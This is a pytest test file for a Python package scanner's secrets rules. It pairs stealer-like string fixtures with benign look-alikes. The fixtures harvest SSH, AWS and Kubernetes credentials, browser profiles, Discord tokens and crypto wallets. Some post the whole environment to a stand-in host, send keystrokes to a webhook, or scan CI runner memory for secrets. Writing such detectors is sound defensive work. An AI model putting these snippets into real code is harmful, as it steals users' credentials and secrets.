"""Secret sources: each rule on a stealer-like snippet and on the benign code that resembles it."""

from __future__ import annotations

from rulekit import ids, py, run, severities

from pipvet.analysis.rules import exfiltration, secrets
from pipvet.models import Severity, Stage

R = secrets.RULES


def test_one_credential_file_is_weak_like_an_sdk() -> None:
    benign = py(
        "import os\n"
        "def creds_path():\n"
        "    return os.path.join(os.path.expanduser('~'), '.aws', 'credentials')\n"
    )
    found = run(R, benign)
    assert ids(found) == {"PV-SEC-CREDFILE"}
    assert found[0].severity is Severity.LOW
    assert found[0].stage is Stage.RUNTIME  # inside a function nobody calls at import


def test_harvesting_many_credential_stores_is_high() -> None:
    bad = py(
        "import os\n"
        "home = os.path.expanduser('~')\n"
        "targets = [home + '/.aws/credentials', home + '/.ssh/id_rsa', home + '/.kube/config',\n"
        "           home + '/.docker/config.json', home + '/.bash_history']\n"
    )
    found = [f for f in run(R, bad) if f.rule == "PV-SEC-CREDFILE"]
    assert found[0].severity is Severity.HIGH
    assert found[0].stage is Stage.IMPORT
    assert "AWS credentials" in found[0].message


def test_browser_wallet_and_discord_stores() -> None:
    bad = py(
        "import os\n"
        "LOCAL = os.getenv('LOCALAPPDATA')\n"
        "paths = {'Chrome': LOCAL + '\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data',\n"
        "         'Discord': os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'}\n"
        "wallet = os.getenv('APPDATA') + '\\\\Exodus\\\\exodus.wallet'\n"
    )
    found = [f for f in run(R, bad) if f.rule == "PV-SEC-STEALER"]
    assert len(found) == 1
    assert found[0].severity is Severity.CRITICAL
    assert "Discord tokens" in found[0].message
    assert "crypto wallets" in found[0].message


def test_discord_token_regex_alone_is_high() -> None:
    bad = py("import re\nTOKEN = re.compile(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}')\n")
    found = [f for f in run(R, bad) if f.rule == "PV-SEC-STEALER"]
    assert found
    assert found[0].severity is Severity.HIGH


def test_browser_words_in_ordinary_code_do_not_fire() -> None:
    benign = py(
        "def set_cookie(response, name, value):\n"
        "    '''Store a cookie; see the browser's cookies panel.'''\n"
        "    response.headers['Set-Cookie'] = f'{name}={value}'\n"
        "STATE = 'local state of the parser'\n"
    )
    assert run(R, benign) == []


def test_wallet_app_names_count_as_paths_not_as_words() -> None:
    """'Guarda' is a wallet in a stealer's path list and an ordinary Italian or Portuguese word."""
    bad = py("import os\nw = os.getenv('APPDATA') + '\\\\Guarda\\\\Local Storage\\\\leveldb'\n")
    assert [f.rule for f in run(R, bad)] == ["PV-SEC-STEALER"]
    listed = py("import os\nw = os.path.join(os.getenv('APPDATA'), 'Coinomi/Coinomi/wallets')\n")
    assert "PV-SEC-STEALER" in ids(run(R, listed))
    data = py("provinces = [['Guarda', 'GR'], ['Coimbra', 'CO']]\njobs = ['Guarda-roupeiro de cinema']\n")
    assert run(R, data) == []


def test_dpapi_in_a_cache_that_also_encrypts_versus_decrypting_only() -> None:
    """A token cache encrypts with CryptProtectData and reads its own secrets back with
    CryptUnprotectData; a stealer only decrypts what the browser stored."""
    cache = py(
        "import ctypes\n"
        "_PROTECT = ctypes.windll.crypt32.CryptProtectData\n"
        "_UNPROTECT = ctypes.windll.crypt32.CryptUnprotectData\n"
    )
    assert "PV-SEC-STEALER" not in ids(run(R, cache))
    decrypt_only = py("from win32crypt import CryptUnprotectData\n")
    assert "PV-SEC-STEALER" in ids(run(R, decrypt_only))
    stealer = py(
        "import ctypes, os\n"
        "db = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Local State')\n"
        "key = ctypes.windll.crypt32.CryptUnprotectData(db)\n"
        "ctypes.windll.crypt32.CryptProtectData(key)\n"
    )
    assert "PV-SEC-STEALER" in ids(run(R, stealer))


def test_environment_dump_versus_copy_for_subprocess() -> None:
    bad = py(
        "import os, json, requests\nrequests.post('https://x.example/c', data=json.dumps(dict(os.environ)))\n"
    )
    assert "PV-SEC-ENVDUMP" in ids(run(R, bad))
    also_bad = py("import os, requests\nrequests.post('https://x.example/c', json=os.environ.copy())\n")
    assert "PV-SEC-ENVDUMP" in ids(run(R, also_bad))
    assert run(R, py("import os\nVAGRANT = 'vagrant' in str(os.environ)\n")) == []
    benign = py(
        "import os, subprocess\n"
        "env = os.environ.copy()\n"
        "env['LANG'] = 'C'\n"
        "proxy = os.environ.get('HTTP_PROXY')\n"
        "subprocess.run(['git', 'status'], env=env)\n"
    )
    assert run(R, benign) == []


def test_fingerprint_beacon_versus_single_fact() -> None:
    bad = py(
        "import getpass, socket, platform\n"
        "info = getpass.getuser() + '###' + socket.gethostname() + '###' + platform.system()\n"
    )
    found = [f for f in run(R, bad) if f.rule == "PV-SEC-FINGERPRINT"]
    assert found
    assert found[0].severity is Severity.MEDIUM
    benign = py("import socket\nHOST = socket.gethostname()\n")
    assert run(R, benign) == []


def test_text_fallback_on_python2_source() -> None:
    bad = py(
        "import os\nprint 'x'\np = os.environ['APPDATA'] + r'\\Google\\Chrome\\User Data\\Local State'\n"
    )
    assert bad.tree is None
    assert "PV-SEC-STEALER" in ids(run(R, bad))


def test_environment_reference_strings_are_not_dumps() -> None:
    benign = py(
        "EXAMPLE = {'api_key': 'os.environ/AZURE_OPENAI_API_KEY', 'creds': 'os.environ/GOOGLE_CREDS'}\n"
        "HEADERS = {'Authorization': 'Bearer os.environ/COHERE_API_KEY'}\n"
    )
    assert run(R, benign) == []


def test_keylogger_and_proc_environ() -> None:
    keylogger = py("from pynput import keyboard\nkeyboard.Listener(on_press=print).start()\n")
    found = [f for f in run(R, keylogger) if f.rule == "PV-SEC-STEALER"]
    assert found
    assert "keystrokes" in found[0].message
    environ = py("from pathlib import Path\ne = open(Path('/', 'proc', 'self', 'environ')).read()\n")
    assert "PV-SEC-ENVDUMP" in ids(run(R, environ))
    benign = py("def keyboard_layout():\n    return 'qwerty'\nPROC = '/proc/%d/environ'\n")
    assert run(R, benign) == []


def test_reading_the_keyboard_when_called_is_what_input_libraries_do() -> None:
    """pynput and pyglet read key state in functions; at import time, or with a way out in the
    same file, it is a keylogger's shape."""
    library = (
        "import ctypes\n"
        "_GetAsyncKeyState = ctypes.windll.user32.GetAsyncKeyState\n"
        "def pressed(vk):\n"
        "    return _GetAsyncKeyState(vk) & 0x8000\n"
    )
    assert severities(R, py(library, stage=Stage.RUNTIME), "PV-SEC-STEALER") == [Severity.LOW]
    assert severities(R, py(library, stage=Stage.IMPORT), "PV-SEC-STEALER") == [Severity.HIGH]
    sender = library + (
        "import requests\n"
        "def report(keys):\n"
        "    requests.post('https://discord.com/api/webhooks/1/x', data={'keys': keys})\n"
    )
    assert severities(R, py(sender, stage=Stage.RUNTIME), "PV-SEC-STEALER") == [Severity.MEDIUM]
    assert "PV-EXF-COMBO" in ids(run(exfiltration.RULES, py(sender, stage=Stage.RUNTIME)))
    hotkeys = "from pynput import keyboard\ndef listen(on_press):\n"
    hotkeys += "    keyboard.Listener(on_press=on_press).join()\n"
    assert severities(R, py(hotkeys), "PV-SEC-STEALER") == [Severity.LOW]  # the import reads no key


def test_kubernetes_service_account_token_is_a_credential_store() -> None:
    reader = py("TOKEN = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n")
    assert "PV-SEC-CREDFILE" in ids(run(R, reader))
    assert run(R, py("NAMESPACE_HELP = 'the namespace of the service account'\n")) == []


def test_finding_the_browser_program_is_no_profile_access() -> None:
    """Browser drivers look up chrome.exe (program folder, registry key) to learn its version;
    a stealer opens the profile folder."""
    driver = py(
        "CMDS = [\n"
        "    r'(Get-Item -Path \"$env:PROGRAMFILES\\Google\\Chrome\\Application\\chrome.exe\")',\n"
        "    r'(Get-ItemProperty -Path Registry::\"HKCU\\SOFTWARE\\Google\\Chrome\\BLBeacon\").version',\n"
        "    'C:\\\\Program Files\\\\Google\\\\Chrome\\\\Application\\\\chrome.exe',\n"
        "    r'$env:LOCALAPPDATA\\BraveSoftware\\Brave-Browser\\Application\\brave.exe',\n"
        "    r'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\BraveSoftware Brave-Browser',\n"
        "]\n"
    )
    assert "PV-SEC-STEALER" not in ids(run(R, driver))
    profile = py("import os\nP = os.getenv('LOCALAPPDATA') + r'\\Google\\Chrome\\'\n")
    assert "PV-SEC-STEALER" in ids(run(R, profile))
    brave = py("import os\nP = os.path.join(os.getenv('LOCALAPPDATA'), 'BraveSoftware', 'Brave-Browser')\n")
    assert "PV-SEC-STEALER" in ids(run(R, brave))


def test_a_wsgi_environ_is_not_the_process_environment() -> None:
    wsgi = (
        "import http.client, json\n"
        "def forward(environ, start_response):\n"
        "    body = environ['wsgi.input'].read(int(environ.get('CONTENT_LENGTH', '0')))\n"
        "    log = json.dumps(environ)\n"
        "    conn = http.client.HTTPConnection(environ['SERVER_NAME'])\n"
    )
    assert run(R, py(wsgi, stage=Stage.RUNTIME)) == []
    process = "from os import environ\n" + wsgi
    assert "PV-SEC-ENVDUMP" in ids(run(R, py(process, stage=Stage.RUNTIME)))


def test_one_variable_of_the_environment_is_not_a_dump() -> None:
    one = py("import os, requests\nrequests.post('https://x.example/', data=os.environ['PAYLOAD'])\n")
    assert run(R, one) == []
    picked = py("import os, requests\nrequests.post('https://x.example/', data=os.environ.get('P'))\n")
    assert run(R, picked) == []
    whole = py("import os, requests\nrequests.post('https://x.example/', data=os.environ)\n")
    assert "PV-SEC-ENVDUMP" in ids(run(R, whole))


def test_a_browser_profile_named_without_decrypting_it_is_medium() -> None:
    automation = (
        "import os, shutil\n"
        "def copy_profile(dst):\n"
        "    src = os.path.expandvars(r'%LocalAppData%\\Google\\Chrome\\User Data')\n"
        "    shutil.copy(os.path.join(src, 'Local State'), dst)\n"
    )
    assert severities(R, py(automation, stage=Stage.RUNTIME), "PV-SEC-STEALER") == [Severity.MEDIUM]
    stealer = automation + (
        "def key(dst):\n"
        "    import json, win32crypt\n"
        "    blob = json.load(open(dst))['os_crypt']['encrypted_key']\n"
        "    return win32crypt.CryptUnprotectData(blob)\n"
    )
    assert severities(R, py(stealer, stage=Stage.RUNTIME), "PV-SEC-STEALER") == [Severity.HIGH]
    on_import = (
        "import os, shutil\n"
        "shutil.copy(os.path.expandvars(r'%LocalAppData%\\Google\\Chrome\\User Data'), '.')\n"
    )
    assert severities(R, py(on_import), "PV-SEC-STEALER") == [Severity.HIGH]


def test_credential_names_in_a_long_table_of_extensions_are_looked_for() -> None:
    extensions = [f"'.ext{i}'" for i in range(60)] + ["'.env'", "'.gitconfig'", "'.npmrc'"]
    table = "TEXT_EXTENSIONS = [\n" + ",\n".join(extensions) + "\n]\n"
    assert "PV-SEC-CREDFILE" not in ids(run(R, py(table, stage=Stage.RUNTIME)))
    harvester = "PATHS = ['.env', '~/.gitconfig', '~/.npmrc']\n"
    assert "PV-SEC-CREDFILE" in ids(run(R, py(harvester, stage=Stage.RUNTIME)))


def test_a_public_ip_service_is_named_by_its_whole_host() -> None:
    from pipvet.analysis.rules.secrets import fingerprint

    assert "public IP address" not in fingerprint(py("count += len(incident.messages)\n"))
    assert "public IP address" in fingerprint(py("requests.get('https://ident.me')\n"))
    assert "public IP address" in fingerprint(py("URL = 'https://api.ipify.org?format=json'\n"))


def test_credential_paths_in_a_scanners_regular_expressions_are_patterns_not_reads() -> None:
    """unsloth-zoo scans a converter it downloads for stealer behaviour, with regexes of paths."""
    scanner = py(
        "import re, http.client\n"
        "RE_CRED = re.compile(\n"
        "    r'(?:open|Path)\\s*\\([^)]*?(?:\\.ssh[/\\\\]|\\.aws[/\\\\]credentials'\n"
        "    r'|\\.git-credentials|\\.pypirc'\n"
        "    r'|/etc/shadow|\\.bash_history)'\n"
        ")\n"
        "def fetch(url):\n"
        "    return http.client.HTTPSConnection(url).request('GET', '/')\n"
    )
    assert not {"PV-SEC-CREDFILE", "PV-EXF-COMBO"} & ids(run(R + exfiltration.RULES, scanner))
    reader = py("import os\nKEY = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n")
    assert "PV-SEC-CREDFILE" in ids(run(R, reader))


def test_stores_named_by_joined_path_parts_and_linux_profiles() -> None:
    """``os.path.join(..., 'discord', 'Local Storage', 'leveldb')`` names the store as surely as
    a path with slashes; Chrome and Chromium keep Linux profiles in ``~/.config``."""
    discord = py(
        "import os, glob\n"
        "glob.glob(os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb', '*.ldb'))\n"
    )
    assert "Discord tokens" in run(R, discord)[0].message
    chrome = py("import os\np = os.path.expanduser('~/.config/google-chrome/Default/Cookies')\n")
    assert "browser" in run(R, chrome)[0].message
    electrum = py("import os\np = os.path.expanduser('~/.electrum/wallets/default_wallet')\n")
    assert "wallet" in run(R, electrum)[0].message
    program = py("import shutil\nCHROME = shutil.which('google-chrome') or shutil.which('chromium')\n")
    assert "PV-SEC-STEALER" not in ids(run(R, program))


def test_reading_a_ci_runners_memory_for_secrets_is_critical_anywhere() -> None:
    """The tj-actions/changed-files payload read the runner's memory through /proc/<pid>/mem
    and printed every value marked isSecret."""
    scan = py(
        "import os, re\ndef dump(pid):\n"
        "    with open(f'/proc/{pid}/mem', 'rb', 0) as mem:\n        data = mem.read()\n"
        '    return re.findall(rb\'"[^"]+":\\{"value":"[^"]*","isSecret":true\\}\', data)\n',
        stage=Stage.RUNTIME,
    )
    assert severities(R, scan, "PV-SEC-STEALER") == [Severity.CRITICAL]
    # reading its own memory map is what profilers and allocators do
    own = py(
        "def rss():\n    with open('/proc/self/maps') as fh:\n        return fh.read()\n", stage=Stage.RUNTIME
    )
    assert run(R, own) == []
    # a debugger-style reader of another process, called on request: high, not critical
    debugger = py(
        "def peek(pid, at, n):\n    with open(f'/proc/{pid}/mem', 'rb') as mem:\n"
        "        mem.seek(at)\n        return mem.read(n)\n",
        stage=Stage.RUNTIME,
    )
    assert severities(R, debugger, "PV-SEC-STEALER") == [Severity.HIGH]
    # "isSecret" is an ordinary key of cloud SDKs' models (pulumi); only beside a memory read
    # does it mark the tj-actions scan
    model = py("@property\n@getter(name='isSecret')\ndef is_secret(self):\n    return self._v\n")
    assert run(R, model) == []
    # a sandbox's seccomp list names the system call it denies (llm-sandbox)
    assert run(R, py("DENIED = ['ptrace', 'process_vm_readv', 'process_vm_writev']\n")) == []
    called = py(
        "import ctypes\nlibc = ctypes.CDLL(None)\ndef peek(pid, iov, n):\n"
        "    return libc.process_vm_readv(pid, iov, 1, iov, 1, 0)\n",
        stage=Stage.RUNTIME,
    )
    assert severities(R, called, "PV-SEC-STEALER") == [Severity.HIGH]


def test_registry_and_github_cli_tokens_are_credential_stores() -> None:
    for source in (
        "import os\ntok = open(os.path.expanduser('~/.cargo/credentials.toml')).read()\n",
        "import os\ntok = open(os.path.join(os.path.expanduser('~'), '.gem', 'credentials')).read()\n",
        "import os\ntok = open(os.path.expanduser('~/.terraform.d/credentials.tfrc.json')).read()\n",
        "import os\ntok = open(os.path.expanduser('~/.vault-token')).read()\n",
        "import os\nhosts = open(os.path.expanduser('~/.config/gh/hosts.yml')).read()\n",
        "import subprocess\ntok = subprocess.run(['gh', 'auth', 'token'], capture_output=True).stdout\n",
    ):
        assert "PV-SEC-CREDFILE" in ids(run(R, py(source))), source
    # a gem's or a crate's own files are not the user's tokens
    assert run(R, py("GEMSPEC = 'demo.gemspec'\nCARGO = 'Cargo.toml'\n")) == []


def test_game_saves_vpn_accounts_and_authenticator_stores_are_stealer_stores() -> None:
    for store in (
        "os.path.join(local, 'Growtopia', 'save.dat')",
        "glob.glob(os.path.join(local, 'NordVPN', '*', '*', 'user.config'))",
        "os.path.join(appdata, 'Authy Desktop', 'Local Storage')",
        "os.path.join(appdata, '.purple', 'accounts.xml')",
    ):
        source = f"import glob, os\nlocal = appdata = os.getenv('APPDATA')\nTARGET = {store}\n"
        assert "PV-SEC-STEALER" in ids(run(R, py(source))), store
    # naming the VPN product in text is no path into its store
    assert run(R, py("SUPPORTED = ['NordVPN', 'ProtonVPN']\n")) == []


def test_a_guard_listing_credential_paths_it_protects_is_medium() -> None:
    """skylos' command guard lists the paths an agent must not read; a harvester also opens,
    copies or packs them."""
    paths = "['~/.ssh/id_rsa', '~/.aws/credentials', '~/.docker/config.json', '.env']"
    guard = py(
        f"import fnmatch\nPROTECTED = {paths}\ndef blocked(path):\n"
        "    return any(fnmatch.fnmatch(path, p) for p in PROTECTED)\n",
        stage=Stage.RUNTIME,
    )
    assert severities(R, guard, "PV-SEC-CREDFILE") == [Severity.MEDIUM]
    harvester = py(
        f"import os\nPATHS = {paths}\ndef grab():\n"
        "    return {p: open(os.path.expanduser(p)).read() for p in PATHS}\n",
        stage=Stage.RUNTIME,
    )
    assert severities(R, harvester, "PV-SEC-CREDFILE") == [Severity.HIGH]
